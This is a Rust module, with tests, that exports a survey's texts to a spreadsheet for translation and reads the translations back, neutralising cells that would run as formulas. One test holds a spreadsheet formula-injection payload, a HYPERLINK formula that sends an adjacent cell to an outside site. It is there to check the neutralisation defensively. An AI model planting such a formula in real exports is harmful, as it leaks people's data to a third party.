//! A survey's texts out to a spreadsheet for a translator, and the translations back in.
//!
//! The spreadsheet has one row per text: where it is (`pages[1].questions[0].text`, as `check`
//! names places), the text in the survey's first language, and the translation, empty where
//! there is none yet. Bringing it back in, a row whose first-language text has changed since the
//! export is **stale**: it is reported and not applied, since the translation may no longer say
//! what the text says. A translation must keep the text's placeholders (`{n}`).
//!
//! A text that can have an easy-read version (`easy`, beside it) has two more columns: the
//! easy-read version in the first language and in the translation's, on the same row.
//!
//! The spreadsheet itself (.xlsx written and read, CSV read) is the `organiser` feature's: the
//! studio carries the rest (the texts, their places, putting translations in) and has its
//! converter worker write and read the file.

use crate::cell;
#[cfg(feature = "organiser")]
use crate::import::xlsx;
#[cfg(feature = "organiser")]
use crate::import::ImportError;
use crate::kind::Kind;
use crate::read as reader;
use serde_json::{Map, Value};
use std::collections::BTreeSet;

/// One text: where it is, the first-language text, and its translation; and the same of its
/// easy-read version (empty where it has none, or cannot have one).
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct Row {
    pub path: String,
    pub source: String,
    pub translation: String,
    pub easy_source: String,
    pub easy_translation: String,
}

/// Why translations cannot go out or come in.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum TranslationError {
    #[error("the survey is not offered in \"{0}\"; its languages are {1}")]
    NotOffered(String, String),
    #[error("\"{0}\" is the survey's first language, which the texts are translated from")]
    FirstLanguage(String),
    #[error("the spreadsheet cannot be read: {0}")]
    Unreadable(String),
    #[error("the spreadsheet has no columns \"path\", the text and the translation")]
    NoColumns,
    #[error("the spreadsheet cannot be written: {0}")]
    Unwritable(String),
}

/// What bringing translations in did.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Applied {
    /// Translations put in.
    pub applied: usize,
    /// Rows whose first-language text changed since the export: not applied.
    pub stale: Vec<String>,
    /// Rows naming a place the survey has no text at.
    pub unknown: Vec<String>,
    /// Rows whose translation lost or added a placeholder: not applied.
    pub placeholders: Vec<String>,
}

/// Whether a field holds a text (a string, or an object of language → string): one that can
/// have an easy-read version, or the tab's title, the exit button's words, a rule's message.
fn is_text_field(key: &str) -> bool {
    reader::EASY_TEXTS.contains(&key) || ["neutral_title", "button", "message"].contains(&key)
}

/// Every text of a definition, in order, with where it is.
fn texts(definition: &Value) -> Vec<(String, &Value)> {
    let mut out = Vec::new();
    walk(definition, String::new(), &mut out);
    out
}

fn walk<'v>(value: &'v Value, path: String, out: &mut Vec<(String, &'v Value)>) {
    match value {
        Value::Object(map) => {
            for (key, child) in map {
                let here = if path.is_empty() { key.clone() } else { format!("{path}.{key}") };
                // A help line's name is a text; a language's name is its own word for itself.
                let is_text = is_text_field(key) || (key == "name" && path.starts_with("support["));
                if is_text && (child.is_string() || is_translated(child)) {
                    out.push((here, child));
                } else if key != "languages" && key != "interface" && key != "easy" {
                    walk(child, here, out);
                }
            }
        }
        Value::Array(items) => {
            for (i, item) in items.iter().enumerate() {
                walk(item, format!("{path}[{i}]"), out);
            }
        }
        _ => {}
    }
}

fn is_translated(value: &Value) -> bool {
    value.as_object().is_some_and(|m| !m.is_empty() && m.values().all(Value::is_string))
}

/// A text in one language, if it has it (a plain string has every language).
fn text_in<'v>(text: &'v Value, language: &str) -> Option<&'v str> {
    match text {
        Value::String(s) => Some(s),
        Value::Object(map) => map.get(language).and_then(Value::as_str),
        _ => None,
    }
}

/// The survey's first language, if `language` is another of its languages (one to translate into).
fn translatable(definition: &Value, language: &str) -> Result<String, TranslationError> {
    let codes = crate::draft::languages(definition);
    let first = codes.first().cloned().unwrap_or_default();
    if !codes.iter().any(|c| c == language) {
        return Err(TranslationError::NotOffered(language.into(), codes.join(", ")));
    }
    if language == first {
        return Err(TranslationError::FirstLanguage(language.into()));
    }
    Ok(first)
}

/// Where the easy-read version of the text at `path` goes, if that text can have one: the
/// survey's and a page's texts a respondent reads, a question's, and an option's.
pub fn easy_place(path: &str) -> Option<String> {
    let (object, key) = path.rsplit_once('.').unwrap_or(("", path));
    let (_, last) = object.rsplit_once('.').unwrap_or(("", object));
    let every_kind: Vec<&str> = Kind::NAMES.iter().flat_map(|k| reader::question_easy(k)).collect();
    let takes: &[&str] = if object.is_empty() {
        reader::SURVEY_EASY
    } else if last.starts_with("questions[") {
        &every_kind
    } else if ["options[", "rows[", "columns["].iter().any(|l| last.starts_with(l)) && object.contains(".questions[") {
        &["text"]
    } else if last.starts_with("pages[") && !object.contains('.') {
        reader::PAGE_EASY
    } else {
        &[]
    };
    takes.contains(&key).then(|| if object.is_empty() { format!("easy.{key}") } else { format!("{object}.easy.{key}") })
}

/// Where every text of the survey is, in order.
pub fn paths(definition: &Value) -> Vec<String> {
    texts(definition).into_iter().map(|(path, _)| path).collect()
}

/// The rows for translating a survey into `language`.
pub fn export(definition: &Value, language: &str) -> Result<Vec<Row>, TranslationError> {
    let first = translatable(definition, language)?;
    // A plain string is the same in every language: not yet translated.
    let pair = |text: &Value| {
        let source = text_in(text, &first).or_else(|| text.as_object()?.values().next()?.as_str())?;
        let translation = if text.is_string() { "" } else { text_in(text, language).unwrap_or("") };
        Some((source.to_string(), translation.to_string()))
    };
    Ok(texts(definition)
        .into_iter()
        .filter_map(|(path, text)| {
            let (source, translation) = pair(text)?;
            let easy = easy_place(&path).and_then(|at| crate::draft::get(definition, &at)).and_then(pair);
            let (easy_source, easy_translation) = easy.unwrap_or_default();
            Some(Row { path, source, translation, easy_source, easy_translation })
        })
        .collect())
}

/// The header row: what each column is, in the organiser's words.
fn header(definition: &Value, language: &str) -> [String; 5] {
    let first = crate::draft::languages(definition).into_iter().next().unwrap_or_default();
    [
        "path".into(),
        format!("text ({first})"),
        format!("translation ({language})"),
        format!("easy read ({first})"),
        format!("easy read translation ({language})"),
    ]
}

impl Row {
    /// The row's cells, in the order of the header.
    fn cells(&self) -> [&str; 5] {
        [&self.path, &self.source, &self.translation, &self.easy_source, &self.easy_translation]
    }

    /// The row as JSON: its cells, in the order of the header (how the studio's converter sends
    /// the rows of a translator's spreadsheet).
    pub fn to_json(&self) -> Value {
        Value::Array(self.cells().map(Value::from).to_vec())
    }

    /// A row as [`Row::to_json`] writes it; a cell missing or not text is empty.
    pub fn from_json(value: &Value) -> Row {
        let [path, source, translation, easy_source, easy_translation] =
            [0, 1, 2, 3, 4].map(|i| value.get(i).and_then(Value::as_str).unwrap_or_default().to_string());
        Row { path, source, translation, easy_source, easy_translation }
    }
}

/// The rows as a spreadsheet (.xlsx): a bold header, the texts wrapped, the first row frozen.
#[cfg(feature = "organiser")]
pub fn to_xlsx(definition: &Value, language: &str, rows: &[Row]) -> Result<Vec<u8>, TranslationError> {
    use rust_xlsxwriter::{Format, Workbook};
    let fail = |e: rust_xlsxwriter::XlsxError| TranslationError::Unwritable(e.to_string());
    let mut book = Workbook::new();
    let sheet = book.add_worksheet();
    sheet.set_name("translations").map_err(fail)?;
    let bold = Format::new().set_bold();
    let wrap = Format::new().set_text_wrap();
    let plain = Format::new();
    for (c, name) in header(definition, language).iter().enumerate() {
        sheet.write_string_with_format(0, c as u16, name, &bold).map_err(fail)?;
    }
    for (r, row) in rows.iter().enumerate() {
        let r = r as u32 + 1;
        // Strings, and neutralised: a string cell is not run as a formula, but one starting with
        // `=` becomes one as soon as the translator edits it and presses Enter.
        for (c, text) in row.cells().into_iter().enumerate() {
            let format = if c == 0 { &plain } else { &wrap };
            cell::write(sheet, r, c as u16, text, format).map_err(fail)?;
        }
    }
    sheet.set_column_width(0, 36).map_err(fail)?;
    for c in 1..5 {
        sheet.set_column_width(c, if c < 3 { 60 } else { 45 }).map_err(fail)?;
    }
    sheet.set_freeze_panes(1, 0).map_err(fail)?;
    book.save_to_buffer().map_err(fail)
}

/// The rows as CSV (UTF-8, quoted where needed, a text that a spreadsheet would run as a formula
/// neutralised).
pub fn to_csv(definition: &Value, language: &str, rows: &[Row]) -> String {
    let line = |fields: [&str; 5]| fields.map(cell::csv_field).join(",") + "\n";
    let mut out = line(header(definition, language).each_ref().map(String::as_str));
    for row in rows {
        out.push_str(&line(row.cells()));
    }
    out
}

/// The rows of a spreadsheet (.xlsx, told by its content) or CSV file, with what
/// [`cell::neutralise`] added on the way out taken off again.
#[cfg(feature = "organiser")]
pub fn read(bytes: &[u8]) -> Result<Vec<Row>, TranslationError> {
    let mut rows = table(bytes)?.into_iter();
    let header = rows.next().ok_or(TranslationError::NoColumns)?;
    if !header.get(0).trim().eq_ignore_ascii_case("path") || header.width() < 3 {
        return Err(TranslationError::NoColumns);
    }
    Ok(rows
        .filter(|r| !r.get(0).trim().is_empty())
        .map(|r| Row {
            path: cell::restore(r.get(0).trim()).into_owned(),
            source: cell::restore(r.get(1)).into_owned(),
            translation: cell::restore(r.get(2)).into_owned(),
            // A sheet from before easy read had three columns: these are empty then.
            easy_source: cell::restore(r.get(3)).into_owned(),
            easy_translation: cell::restore(r.get(4)).into_owned(),
        })
        .collect())
}

/// The header row of a sheet, if it can be read.
#[cfg(feature = "organiser")]
pub fn header_of(bytes: &[u8]) -> Option<Vec<String>> {
    let header = table(bytes).ok()?.into_iter().next()?;
    Some((0..header.width()).map(|c| cell::restore(header.get(c)).into_owned()).collect())
}

/// A spreadsheet's first sheet, or a CSV file, as rows of text; one with more rows than
/// speaksafe reads is refused, never cut short.
#[cfg(feature = "organiser")]
fn table(bytes: &[u8]) -> Result<Vec<xlsx::Row>, TranslationError> {
    Ok(if bytes.starts_with(b"PK\x03\x04") {
        let sheets = xlsx::sheets(bytes).map_err(|e: ImportError| TranslationError::Unreadable(e.to_string()))?;
        sheets.into_iter().next().map(|s| s.rows).unwrap_or_default()
    } else {
        let text = std::str::from_utf8(bytes).map_err(|_| TranslationError::Unreadable("not UTF-8 text".into()))?;
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .flexible(true)
            .from_reader(text.trim_start_matches('\u{feff}').as_bytes());
        let mut table = Vec::new();
        for (i, record) in reader.records().enumerate() {
            let record = record.map_err(|e| TranslationError::Unreadable(e.to_string()))?;
            if i >= xlsx::MAX_ROWS {
                return Err(TranslationError::Unreadable(format!(
                    "it has more than {} rows, the most speaksafe reads (row {} and after)",
                    xlsx::MAX_ROWS,
                    i + 1
                )));
            }
            table.push(xlsx::Row::from(record.iter().map(str::to_string).collect::<Vec<_>>()));
        }
        table
    })
}

/// The placeholders in a text: `{n}`, `{reason}`.
fn placeholders(text: &str) -> BTreeSet<&str> {
    let mut found = BTreeSet::new();
    let mut rest = text;
    while let Some(open) = rest.find('{') {
        let after = &rest[open..];
        match after.find('}') {
            Some(close) if after[1..close].chars().all(|c| c.is_ascii_alphanumeric() || c == '_') && close > 1 => {
                found.insert(&after[..=close]);
                rest = &after[close + 1..];
            }
            _ => rest = &after[1..],
        }
    }
    found
}

/// Puts translations into `language`: each row's text at its path, and its easy-read version
/// beside it, unless it is stale or lost a placeholder. An empty translation is left alone.
pub fn apply(definition: &mut Value, language: &str, rows: &[Row]) -> Result<Applied, TranslationError> {
    let first = translatable(definition, language)?;
    let paths: Vec<String> = texts(definition).into_iter().map(|(p, _)| p).collect();
    let mut applied = Applied::default();
    for row in rows {
        if !paths.contains(&row.path) {
            applied.unknown.push(row.path.clone());
            continue;
        }
        let easy = easy_place(&row.path).map(|at| (at, &row.easy_source, &row.easy_translation));
        let main = (row.path.clone(), &row.source, &row.translation);
        for (at, source, translation) in std::iter::once(main).chain(easy) {
            if translation.trim().is_empty() {
                continue;
            }
            let current = crate::draft::get(definition, &at)
                .and_then(|text| text_in(text, &first).or_else(|| text.as_object()?.values().next()?.as_str()))
                .unwrap_or("")
                .to_string();
            if current.trim() != source.trim() {
                applied.stale.push(at);
                continue;
            }
            if placeholders(&current) != placeholders(translation) {
                applied.placeholders.push(at);
                continue;
            }
            set_translation(definition, &at, &first, language, translation.trim());
            applied.applied += 1;
        }
    }
    Ok(applied)
}

/// Puts `translation` in `language` at `path`, keeping a plain string as the first language's.
fn set_translation(definition: &mut Value, path: &str, first: &str, language: &str, translation: &str) {
    if at_mut(definition, path).is_none() {
        // An easy-read version the survey does not have yet in its first language.
        crate::draft::set(definition, path, Value::Object(Map::new()));
    }
    let Some(text) = at_mut(definition, path) else { return };
    if let Value::String(plain) = text {
        let mut map = Map::new();
        map.insert(first.to_string(), Value::String(plain.clone()));
        *text = Value::Object(map);
    }
    if let Value::Object(map) = text {
        map.insert(language.to_string(), Value::String(translation.to_string()));
    }
}

/// The value at a path such as `pages[1].questions[0].options[2].text`.
fn at_mut<'v>(value: &'v mut Value, path: &str) -> Option<&'v mut Value> {
    let mut here = value;
    for part in path.split('.') {
        let (key, mut rest) = part.split_once('[').map_or((part, ""), |(k, r)| (k, r));
        if !key.is_empty() {
            here = here.get_mut(key)?;
        }
        while let Some((index, after)) = rest.split_once(']') {
            here = here.get_mut(index.parse::<usize>().ok()?)?;
            rest = after.strip_prefix('[').unwrap_or(after);
        }
    }
    Some(here)
}

// The spreadsheet goes out and comes back in most of these.
#[cfg(all(test, feature = "organiser"))]
mod tests {
    use super::*;
    use serde_json::json;

    fn survey() -> Value {
        json!({
            "format": "speaksafe/1", "id": "t", "languages": ["en", "pl"],
            "title": { "en": "Safety", "pl": "Bezpieczeństwo" }, "intro": "Hello", "completion": "Thanks",
            "support": [{ "name": "Helpline", "phone": "0800 000 0000" }],
            "pages": [{ "id": "p", "title": "Page", "questions": [
                { "id": "q", "kind": "single_choice", "text": "You have {n} left",
                  "options": [{ "value": "a", "text": "A" }] }
            ]}]
        })
    }

    #[test]
    fn a_row_comes_back_from_its_json_as_it_was() {
        let row = Row { path: "title".into(), source: "Hello".into(), translation: "Bore da".into(), ..Row::default() };
        assert_eq!(row.to_json(), json!(["title", "Hello", "Bore da", "", ""]));
        assert_eq!(Row::from_json(&row.to_json()), row);
        assert_eq!(Row::from_json(&json!(["title", 3])), Row { path: "title".into(), ..Row::default() });
    }

    #[test]
    fn every_text_goes_out_with_its_translation_if_any() {
        let rows = export(&survey(), "pl").unwrap();
        let paths: Vec<&str> = rows.iter().map(|r| r.path.as_str()).collect();
        assert_eq!(
            paths,
            [
                "completion",
                "intro",
                "pages[0].questions[0].options[0].text",
                "pages[0].questions[0].text",
                "pages[0].title",
                "support[0].name",
                "title"
            ]
        );
        assert_eq!(rows.last().unwrap().translation, "Bezpieczeństwo");
        assert_eq!(export(&survey(), "de").unwrap_err(), TranslationError::NotOffered("de".into(), "en, pl".into()));
        assert_eq!(export(&survey(), "en").unwrap_err(), TranslationError::FirstLanguage("en".into()));
    }

    #[test]
    fn stale_rows_and_lost_placeholders_are_not_applied() {
        let mut definition = survey();
        let row = |path: &str, source: &str, translation: &str| Row {
            path: path.into(),
            source: source.into(),
            translation: translation.into(),
            ..Row::default()
        };
        let applied = apply(
            &mut definition,
            "pl",
            &[
                row("intro", "Hello", "Cześć"),
                row("completion", "Thank you", "Dziękuję"),
                row("pages[0].questions[0].text", "You have {n} left", "Zostało ci"),
                row("pages[9].title", "x", "y"),
            ],
        )
        .unwrap();
        assert_eq!(applied.applied, 1);
        assert_eq!(applied.stale, ["completion"]);
        assert_eq!(applied.placeholders, ["pages[0].questions[0].text"]);
        assert_eq!(applied.unknown, ["pages[9].title"]);
        assert_eq!(definition["intro"], json!({ "en": "Hello", "pl": "Cześć" }));
        assert_eq!(definition["completion"], json!("Thanks"));
    }

    #[test]
    fn a_sheet_longer_than_speaksafe_reads_is_refused_not_cut_short() {
        // Before, the rows past 20,000 were left out without a word.
        let mut csv = String::from("path,text (en),translation (pl)\n");
        for i in 0..20_000 {
            csv.push_str(&format!("pages[{i}].title,Page,Strona\n"));
        }
        let error = read(csv.as_bytes()).unwrap_err().to_string();
        assert!(error.contains("more than 20000 rows") && error.contains("row 20001"), "{error}");
        let fits = csv.rsplit_once("pages[19999]").unwrap().0;
        assert_eq!(read(fits.as_bytes()).unwrap().len(), 19_999);
    }

    #[test]
    fn a_text_a_spreadsheet_would_run_as_a_formula_goes_out_as_text_and_comes_back_as_it_was() {
        // The review's text, from a third party's SurveyJS file: opened in a spreadsheet, it
        // would send the cell next to it to another site.
        let formula = r#"=HYPERLINK("https://example.org/help?x="&A1,"Click for help")"#;
        let mut definition = survey();
        definition["pages"][0]["questions"][0]["text"] = json!(formula);
        definition["intro"] = json!({ "en": "-Hello", "pl": "@Cześć" });
        definition["completion"] = json!("'quoted'");
        let rows = export(&definition, "pl").unwrap();
        let csv = to_csv(&definition, "pl", &rows);
        let xlsx = to_xlsx(&definition, "pl", &rows).unwrap();
        let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(csv.as_bytes());
        let mut fields: Vec<String> =
            reader.records().flat_map(|r| r.unwrap().iter().map(String::from).collect::<Vec<_>>()).collect();
        let sheet = &xlsx::sheets(&xlsx).unwrap()[0];
        fields.extend(sheet.rows.iter().flat_map(|r| (0..3).map(|c| r.get(c).to_string())));
        assert!(fields.iter().any(|f| f.contains("HYPERLINK")), "{fields:?}");
        for field in &fields {
            assert!(!field.starts_with(['=', '+', '-', '@']), "{field:?} would run as a formula");
        }
        assert_eq!(read(csv.as_bytes()).unwrap(), rows);
        assert_eq!(read(&xlsx).unwrap(), rows);
        // What comes back is what went out: not stale, and the formula is text again.
        let mut back = rows.clone();
        back.iter_mut().for_each(|r| r.translation = format!("{} (pl)", r.source));
        let translated = to_csv(&definition, "pl", &back);
        let applied = apply(&mut definition, "pl", &read(translated.as_bytes()).unwrap()).unwrap();
        assert!(applied.stale.is_empty(), "{applied:?}");
        assert_eq!(definition["pages"][0]["questions"][0]["text"]["pl"], json!(format!("{formula} (pl)")));
    }

    #[test]
    fn a_text_shaped_like_a_spreadsheets_own_markup_goes_out_and_comes_back_as_typed() {
        // A spreadsheet library takes `<r>…</r>` for rich text of its own: such a text is neither
        // read as markup nor allowed to break the file when it is not well-formed.
        let mut definition = survey();
        definition["pages"][0]["questions"][0]["text"] = json!("<r><t>Bold?</t></r>");
        definition["completion"] = json!("<r>Thanks & goodbye</r>");
        let rows = export(&definition, "pl").unwrap();
        let xlsx = to_xlsx(&definition, "pl", &rows).unwrap();
        let back = read(&xlsx).unwrap();
        assert_eq!(back, rows);
        let sources: Vec<&str> = back.iter().map(|r| r.source.as_str()).collect();
        assert!(
            sources.contains(&"<r><t>Bold?</t></r>") && sources.contains(&"<r>Thanks & goodbye</r>"),
            "{sources:?}"
        );
    }

    #[test]
    fn easy_read_goes_out_in_its_own_columns_and_comes_back_beside_its_text() {
        let mut definition = survey();
        definition["pages"][0]["questions"][0]["easy"] = json!({ "text": { "en": "Easy {n}" } });
        definition["easy"] = json!({ "intro": "Hi" });
        let rows = export(&definition, "pl").unwrap();
        assert!(!rows.iter().any(|r| r.path.contains("easy")), "no row of its own: {rows:?}");
        let question = rows.iter().find(|r| r.path == "pages[0].questions[0].text").unwrap();
        assert_eq!((question.easy_source.as_str(), question.easy_translation.as_str()), ("Easy {n}", ""));
        let intro = rows.iter().find(|r| r.path == "intro").unwrap();
        assert_eq!(intro.easy_source, "Hi");
        let name = rows.iter().find(|r| r.path == "support[0].name").unwrap();
        assert_eq!(name.easy_source, "", "a help line's name has no easy read");

        let mut back = rows.clone();
        for row in &mut back {
            match row.path.as_str() {
                "pages[0].questions[0].text" => row.easy_translation = "Łatwe {n}".into(),
                "intro" => row.easy_translation = "Cześć".into(),
                "pages[0].title" => row.easy_translation = "Strona, łatwo".into(),
                "completion" => (row.easy_source, row.easy_translation) = ("Old".into(), "Stare".into()),
                _ => {}
            }
        }
        let sheet = to_xlsx(&definition, "pl", &back).unwrap();
        let applied = apply(&mut definition, "pl", &read(&sheet).unwrap()).unwrap();
        assert_eq!(applied.applied, 4, "the title's translation, as it was, and three easy-read ones");
        assert_eq!(applied.stale, ["easy.completion"], "the easy-read text changed since: stale");
        assert_eq!(
            definition["pages"][0]["questions"][0]["easy"]["text"],
            json!({ "en": "Easy {n}", "pl": "Łatwe {n}" })
        );
        assert_eq!(definition["easy"]["intro"], json!({ "en": "Hi", "pl": "Cześć" }));
        assert_eq!(
            definition["pages"][0]["easy"]["title"],
            json!({ "pl": "Strona, łatwo" }),
            "written in Polish first"
        );
        assert!(crate::read::check_value(&definition).errors.is_empty());
    }

    #[test]
    fn what_can_have_easy_read_is_the_texts_a_respondent_reads() {
        let places = [
            ("intro", Some("easy.intro")),
            ("neutral_title", None),
            ("exit.button", None),
            ("support[0].name", None),
            ("pages[1].content_note", Some("pages[1].easy.content_note")),
            ("pages[1].questions[2].hint", Some("pages[1].questions[2].easy.hint")),
            ("pages[1].questions[2].min_label", Some("pages[1].questions[2].easy.min_label")),
            ("pages[1].questions[2].rows[0].text", Some("pages[1].questions[2].rows[0].easy.text")),
            ("pages[1].questions[2].validation[0].message", None),
        ];
        for (path, easy) in places {
            assert_eq!(easy_place(path).as_deref(), easy, "{path}");
        }
    }

    #[test]
    fn csv_goes_out_and_comes_back() {
        let rows = export(&survey(), "pl").unwrap();
        let csv = to_csv(&survey(), "pl", &rows);
        assert!(csv.starts_with("path,text (en),translation (pl),easy read (en),easy read translation (pl)\n"));
        assert_eq!(read(csv.as_bytes()).unwrap(), rows);
        let xlsx = to_xlsx(&survey(), "pl", &rows).unwrap();
        assert_eq!(read(&xlsx).unwrap(), rows);
    }
}
